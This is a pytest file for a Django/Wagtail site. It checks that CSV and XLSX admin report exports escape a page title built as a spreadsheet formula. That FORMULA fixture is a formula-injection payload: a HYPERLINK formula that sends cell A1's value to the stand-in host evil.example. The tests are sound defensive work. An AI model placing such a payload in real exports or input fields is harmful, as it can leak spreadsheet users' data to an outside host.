"""Admin reports export a page titled like a formula as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.models import StandardPage

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def formula_page(home, locales):
    page = StandardPage(title=FORMULA, slug="formula", lead="A title to export")
    home.add_child(instance=page)
    page.save_revision().publish()
    return page


def download(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == 200
    if not response.streaming:
        return response.content
    body = b"".join(response.streaming_content)
    response.close()
    return body


def csv_column(body: bytes, column: str) -> list[str]:
    rows = csv.DictReader(io.StringIO(body.decode(), newline=""))
    return [row[column] for row in rows]


def xlsx_column(body: bytes, column: str) -> list:
    header, *rows = load_workbook(io.BytesIO(body)).active.iter_rows()
    index = [cell.value for cell in header].index(column)
    return [row[index] for row in rows]


# Wagtail's own reports, with the column that holds the page title.
WAGTAIL_REPORTS = [
    ("wagtailadmin_reports:aging_pages", "Title"),
    ("wagtailadmin_reports:site_history", "Name"),
]


@pytest.mark.parametrize(("url_name", "column"), WAGTAIL_REPORTS)
def test_wagtail_report_csv_writes_titles_as_text(
    admin_client, formula_page, url_name, column
):
    body = download(admin_client, reverse(url_name), export="csv")
    assert "'" + FORMULA in csv_column(body, column)
    assert not [value for value in csv_column(body, column) if value[:1] == "="]


@pytest.mark.parametrize(("url_name", "column"), WAGTAIL_REPORTS)
def test_wagtail_report_xlsx_writes_titles_as_text(
    admin_client, formula_page, url_name, column
):
    body = download(admin_client, reverse(url_name), export="xlsx")
    cells = [cell for cell in xlsx_column(body, column) if cell.value]
    assert "'" + FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type == "s" for cell in cells)


def test_translation_report_csv_writes_titles_as_text(admin_client, formula_page):
    body = download(
        admin_client, reverse("translation_report"), locale="da", export="csv"
    )
    assert "'" + FORMULA in csv_column(body, "title")
